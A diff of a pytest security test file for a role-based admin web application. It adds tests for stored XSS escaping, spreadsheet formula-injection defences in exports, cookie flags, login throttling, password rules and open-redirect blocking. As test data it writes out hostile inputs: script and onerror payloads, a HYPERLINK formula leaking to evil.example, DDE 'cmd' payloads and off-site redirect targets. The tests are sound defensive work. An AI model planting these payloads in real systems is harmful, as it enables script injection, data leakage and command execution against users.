@@ -12,6 +12,7 @@ import datetime as dt
 import io
 import re
 import zipfile
+from urllib.parse import urljoin
 
 import pytest
 from bson import ObjectId
@@ -168,15 +169,6 @@ def test_public_pages_reveal_nothing_unpublished(client, world):
 
 # --- (a) every list and index page, by role --------------------------------------------------
 
-INDEX_PAGES = [
-    "/admin/", "/admin/review/", "/admin/audit/", "/admin/action_plan/", "/admin/action/",
-    "/admin/referral/", "/admin/information_request/", "/admin/pdc_review/",
-    "/admin/meeting/", "/admin/users/", "/admin/agencies/", "/admin/audit_trail/",
-    "/admin/trash/", "/admin/messages/", "/admin/my_actions/", "/admin/audit_work/",
-    "/admin/documents/", "/admin/referral_register/", "/admin/search/?q=child",
-    "/admin/saved/", "/admin/preferences/", "/admin/plan_builder/?source=review&id={review}",
-    "/admin/import_actions/?plan={action_plan}", "/admin/audit_work/{audit}/",
-]
 _ALL = {"admin": 200, "lead": 200, "pdc": 200, "qaec": 200, "ciec": 200, "chair": 200,
         "training": 200, "viewer": 200}
 
@@ -206,7 +198,9 @@ EXPECTED = {
     "/admin/trash/": _only("admin"),
     "/admin/messages/": _ALL,
     "/admin/my_actions/": _only("admin", "lead", "training"),
-    "/admin/audit_work/": _only("admin", "lead", "pdc", "qaec", "chair", "training"),
+    # Anyone may be named lead auditor for their agency: the workspace's front page is open
+    # to all, and lists audits only to the committees (checked below).
+    "/admin/audit_work/": _ALL,
     "/admin/audit_work/{audit}/": _only("admin", "lead", "pdc", "qaec", "chair", "training"),
     "/admin/documents/": _ALL,
     "/admin/referral_register/": _only("admin", "ciec", "chair"),
@@ -218,10 +212,6 @@ EXPECTED = {
     # Importing actions into a draft multi-agency plan: those who may edit it.
     "/admin/import_actions/?plan={action_plan}": _only("admin", "training"),
 }
-
-
-def test_the_expected_table_covers_every_index_page():
-    assert list(EXPECTED) == INDEX_PAGES
 
 
 @pytest.mark.parametrize("role", list(ROLES_AGENCY))
@@ -237,6 +227,14 @@ def test_each_role_gets_exactly_its_pages(client, world, role):
             wrong.append((page, response.status_code, by_role[role]))
         assert response.status_code != 500, page
     assert not wrong, f"{role}: (page, got, expected) {wrong}"
+
+
+@pytest.mark.parametrize("role", ["ciec", "viewer"])
+def test_the_audit_workspace_front_page_lists_no_audit_outside_the_committees(client, world,
+                                                                               role):
+    AuthActions(client).login(make_user(role, ROLES_AGENCY[role]).email)
+    page = client.get("/admin/audit_work/").get_data(as_text=True)
+    assert world["audit"].title not in page and str(world["audit"].pk) not in page
 
 
 def test_a_lead_sees_only_their_agency_s_actions_everywhere(client, world):
@@ -452,3 +450,275 @@ def test_operator_injection_in_search_and_login_is_harmless(client, world):
                                             "csrf_token": token})
     assert response.status_code == 400
     assert client.get("/admin/").status_code == 302  # nobody signed in
+
+
+# --- (d) stored XSS, and formula injection in exports -----------------------------------------
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = '"><img src=x onerror=alert(1)>'
+RAW = re.compile(r"<script>alert\(1\)</script>|<img src=x onerror=alert\(1\)>")
+ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak","Click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+NOT_FREE_TEXT = {"agency", "agencies", "finding_uid", "owner", "lead_email", "trashed_by"}
+
+
+def hostile(tag: str) -> str:
+    return f"{tag} {SCRIPT} {IMG}"
+
+
+def free_text(model, tag: str) -> dict:
+    """Every plain text field of ``model`` (no choices, ids or emails), holding the payload."""
+    from mongoengine import EmailField, StringField
+
+    from lif.models.base import Content
+
+    return {
+        name: hostile(f"{tag}.{name}")[: field.max_length or None]
+        for name, field in model._fields.items()
+        if type(field) is StringField and not field.choices and name not in NOT_FREE_TEXT
+        and name not in Content.SYSTEM_FIELDS and not isinstance(field, EmailField)
+    }
+
+
+@pytest.fixture
+def stored_xss(clean_db):
+    """A review, a plan, an action (progress, evidence), a referral: payloads everywhere."""
+    review = content.create(Review, {
+        **free_text(Review, "review"), "review_type": "scr",
+        "findings": [Finding(heading=hostile("finding.heading"), text=hostile("finding.text"))],
+        "activities": [Activity(text=hostile("activity"))],
+    }, SYSTEM)
+    plan = content.create(ActionPlan, {
+        **free_text(ActionPlan, "plan"), "kind": "multi_agency", "source_kind": "review",
+        "review": review, "owner": hostile("plan.owner")}, SYSTEM)
+    action = content.create(Action, {
+        **free_text(Action, "action"), "plan": plan, "lead_email": "lead@example.org",
+        "agency": "police", "due_date": dt.date.today() + dt.timedelta(days=10)}, SYSTEM)
+    plans.add_progress(action, hostile("progress"), SYSTEM)
+    plans.add_evidence(action, hostile("evidence"), hostile("measure"), SYSTEM)
+    referral = content.create(Referral, {
+        **free_text(Referral, "referral"), "agency": "police",
+        "child": Person(name=hostile("child.name"), role=hostile("child.role")),
+        "significant_people": [Person(name=hostile("person.name"), role="mother")],
+        "reviewers": [hostile("reviewer")]}, SYSTEM)
+    attachments.add(review, hostile("file") + ".txt", b"text", "text/plain", "", SYSTEM,
+                    check_permission=False)
+    users.create_user("hostile.name@example.org", PASSWORD, ["viewer"],
+                      name=hostile("user.name")[:200])
+    for formula in FORMULAS:
+        f.make_action(plan=plan, title=formula, lead_name=formula, description=formula,
+                      summary=formula)
+    searching.drain()
+    return {"review": review, "action_plan": plan, "action": action, "referral": referral}
+
+
+def assert_escaped(page: str, where: str) -> None:
+    found = RAW.search(page)
+    if found is not None:
+        context = page[max(0, found.start() - 120):found.end() + 40]
+        raise AssertionError(f"raw payload on {where}: …{context}…")
+
+
+def test_stored_payloads_come_out_escaped_on_every_page(client, stored_xss):
+    auth = AuthActions(client)
+    # An anonymous person can put text in the audit trail too: the email of a failed login.
+    token = csrf_token(client)
+    client.post("/login", data={"email": hostile("login"), "password": "x" * 12,
+                                "csrf_token": token})
+    auth.login()
+    ids = {key: item.pk for key, item in stored_xss.items()}
+    pages = ["/admin/", "/admin/review/", "/admin/action/", "/admin/action_plan/",
+             "/admin/referral/", "/admin/audit_trail/", "/admin/users/",
+             "/admin/referral_register/", "/admin/messages/", "/admin/my_actions/?all=1",
+             f"/admin/plan_builder/?source=review&id={ids['review']}",
+             f"/admin/import_actions/?plan={ids['action_plan']}",
+             "/admin/search/?q=alert", "/admin/search/?q=script+img",
+             f"/admin/search/?q={SCRIPT}", f"/admin/review/?search={SCRIPT}",
+             f"/admin/action/?flt0_agency_equals={IMG}"]
+    for key, item_id in ids.items():
+        pages += [f"/admin/{key}/details/?id={item_id}", f"/admin/{key}/edit/?id={item_id}",
+                  f"/admin/{key}/diff/?id={item_id}&a=1&b={stored_xss[key].version}"]
+    escaped_on = []
+    for page in pages:
+        response = client.get(page, follow_redirects=True)
+        assert response.status_code == 200, page
+        html = response.get_data(as_text=True)
+        assert_escaped(html, page)
+        if ESCAPED_SCRIPT in html:
+            escaped_on.append(page)
+    # The payloads were really shown (escaped), not just absent.
+    for key, item_id in ids.items():
+        assert f"/admin/{key}/details/?id={item_id}" in escaped_on, key
+    assert "/admin/search/?q=alert" in escaped_on and "/admin/audit_trail/" in escaped_on
+    # A lead reads their actions too.
+    auth.logout()
+    auth.login(make_user("lead", "police").email)
+    assert_escaped(client.get("/admin/my_actions/").get_data(as_text=True), "my actions (lead)")
+
+
+def _csv_cells(body: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+
+
+def _xlsx_cells(data: bytes) -> list:
+    book = load_workbook(io.BytesIO(data))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_exports_neither_run_formulas_nor_serve_html(client, stored_xss):
+    AuthActions(client).login()
+    csv_urls = ["/admin/action/export/csv/", "/admin/action_plan/export/csv/",
+                "/admin/review/export/csv/", "/admin/referral/export/csv/",
+                "/admin/audit_trail/export/csv/", "/admin/referral_register/export/csv"]
+    # Someone signed out typed a formula as their email: it is in the audit trail now.
+    AuthActions(client).logout()
+    client.post("/login", data={"email": FORMULAS[0], "password": "x" * 12,
+                                "csrf_token": csrf_token(client)})
+    AuthActions(client).login()
+    for url in csv_urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert response.mimetype == "text/csv", url
+        assert response.headers["Content-Disposition"].startswith("attachment"), url
+        cells = _csv_cells(response.get_data(as_text=True))
+        risky = [c for c in cells if c.startswith(FORMULA_START)]
+        assert not risky, (url, risky[:3])
+        if "action/" in url:
+            assert "'" + FORMULAS[0] in cells, url
+    for url in ("/admin/action/export/xlsx/", "/admin/action_plan/export/xlsx/",
+                "/admin/review/export/xlsx/", "/admin/referral_register/export/xlsx"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        cells = _xlsx_cells(response.data)
+        assert not [c.value for c in cells if c.data_type == "f"], url
+        risky = [c.value for c in cells if isinstance(c.value, str)
+                 and c.value.startswith(FORMULA_START)]
+        assert not risky, (url, risky[:3])
+
+
+@pytest.mark.parametrize(("kind", "key"), [("brief", "review"), ("plan", "action_plan"),
+                                           ("cigscr1", "referral"), ("cigsum1", "referral")])
+def test_word_exports_hold_the_payload_as_text(stored_xss, kind, key):
+    admin = users.find_by_email("admin@test.lif")
+    _, data = render(kind, stored_xss[key], admin)
+    with zipfile.ZipFile(io.BytesIO(data)) as docx_zip:
+        xml = docx_zip.read("word/document.xml").decode()
+    assert_escaped(xml, kind)
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml, kind
+
+
+# --- (e) cookies, throttling, passwords --------------------------------------------------------
+
+
+def _session_cookie(response) -> str:
+    cookies = [h for h in response.headers.getlist("Set-Cookie") if h.startswith("session=")]
+    assert cookies, response.headers
+    return cookies[-1]
+
+
+def test_the_session_cookie_is_httponly_and_samesite_lax(client):
+    cookie = _session_cookie(AuthActions(client).login())
+    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
+    assert "Secure" not in cookie  # LIF_SECURE_COOKIES unset in development and tests
+    assert not any(h.startswith("remember_token=")
+                   for h in client.get("/admin/").headers.getlist("Set-Cookie"))
+
+
+def test_secure_cookies_when_asked_and_in_production(app, client, monkeypatch):
+    from config.settings import ProductionConfig, TestingConfig
+
+    monkeypatch.setenv("LIF_SECURE_COOKIES", "1")
+    assert TestingConfig().SESSION_COOKIE_SECURE is True
+    monkeypatch.delenv("LIF_SECURE_COOKIES")
+    assert ProductionConfig().SESSION_COOKIE_SECURE is True
+    monkeypatch.setitem(app.config, "SESSION_COOKIE_SECURE", True)
+    secure = app.test_client()
+    token = AuthActions(secure).csrf(LOGIN_PAGE)
+    response = secure.post("/login", base_url="https://localhost", data={
+        "email": "admin@test.lif", "password": PASSWORD, "csrf_token": token})
+    cookie = _session_cookie(response)
+    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie
+
+
+def _login_from(client, address: str, email: str, password: str):
+    token = AuthActions(client).csrf(LOGIN_PAGE)
+    return client.post("/login", data={"email": email, "password": password,
+                                       "csrf_token": token},
+                       environ_base={"REMOTE_ADDR": address})
+
+
+def test_login_is_throttled_per_account(app, client):
+    import time_machine
+
+    limit = app.config["LIF_LOGIN_MAX_FAILURES"]
+    for _ in range(limit):
+        assert _login_from(client, "10.0.0.1", "admin@test.lif", "wrong password!").status_code \
+            == 401
+    # Locked: the right password is refused too, from any address, with no hint which.
+    for address in ("10.0.0.1", "10.0.0.2"):
+        refused = _login_from(client, address, "admin@test.lif", PASSWORD)
+        assert refused.status_code == 401
+        assert "Too many failed attempts" in refused.get_data(as_text=True)
+    later = dt.datetime.now(dt.UTC) + dt.timedelta(minutes=app.config["LIF_LOGIN_LOCK_MINUTES"]
+                                                   + 1)
+    with time_machine.travel(later, tick=False):
+        assert _login_from(client, "10.0.0.3", "admin@test.lif", PASSWORD).status_code == 302
+
+
+def test_login_is_throttled_per_address(app, client):
+    viewer = make_user("viewer")
+    limit = app.config["LIF_LOGIN_MAX_FAILURES"]
+    for n in range(limit):  # a password spray: one try each at many accounts
+        _login_from(client, "10.9.9.9", f"someone{n}@example.org", "Summer2026!!")
+    refused = _login_from(client, "10.9.9.9", viewer.email, PASSWORD)
+    assert refused.status_code == 401
+    assert "Too many failed attempts" in refused.get_data(as_text=True)
+    assert _login_from(client, "10.9.9.10", viewer.email, PASSWORD).status_code == 302
+
+
+@pytest.mark.parametrize("password", [
+    "short", "elevenchars",                      # too short (NCSC: length first)
+    "aaaaaaaaaaaaaaaa", "abababababababab",      # repetitive
+    "policy.person-2026",                         # the email's name
+    "password1234", "Password1234!", "passw0rd2026", "P@ssword12345",  # common + digits
+    "qwertyuiop12", "123456789012", "abcdefghijkl", "1q2w3e4r5t6y",     # keyboard, runs
+    "letmein123456", "welcome12345", "liverpool2026", "safeguarding1",  # common words
+])
+def test_short_or_guessable_passwords_are_refused(clean_db, password):
+    with pytest.raises(InvalidInput) as refused:
+        users.create_user("policy.person@example.org", password, ["viewer"])
+    assert refused.value.errors.get("password")
+    assert users.find_by_email("policy.person@example.org") is None
+
+
+@pytest.mark.parametrize("password", ["correct horse battery staple", "tulip-granite-ferry-47",
+                                      "My cat sleeps on the Aga!"])
+def test_long_unusual_passwords_are_accepted(clean_db, password):
+    user, _ = users.create_user("ok.person@example.org", password, ["viewer"])
+    assert user.email == "ok.person@example.org"
+
+
+def test_a_weak_password_is_refused_by_the_admin_form_too(client):
+    AuthActions(client).login()
+    token = AuthActions(client).csrf("/admin/users/new/")
+    response = client.post("/admin/users/new/", data={
+        "csrf_token": token, "email": "weak@example.org", "name": "Weak", "roles": "viewer",
+        "password": "password1234", "active": "y"}, follow_redirects=True)
+    assert response.status_code == 200
+    assert users.find_by_email("weak@example.org") is None
+
+
+@pytest.mark.parametrize("target", ["//evil.example/", "/\\evil.example/", "/\\/evil.example",
+                                    "https://evil.example/", "/%5Cevil.example", "\\\\evil.example",
+                                    "/\t/evil.example", "javascript:alert(1)"])
+def test_login_never_redirects_off_site(client, target):
+    token = csrf_token(client)
+    response = client.post("/login", query_string={"next": target}, data={
+        "email": "admin@test.lif", "password": PASSWORD, "csrf_token": token})
+    assert response.status_code == 302
+    location = response.headers["Location"]
+    # What a browser makes of it: backslashes are slashes, tabs and newlines vanish.
+    seen = re.sub(r"[\t\r\n]", "", location.replace("\\", "/"))
+    assert urljoin("http://localhost/login", seen).startswith("http://localhost/"), location
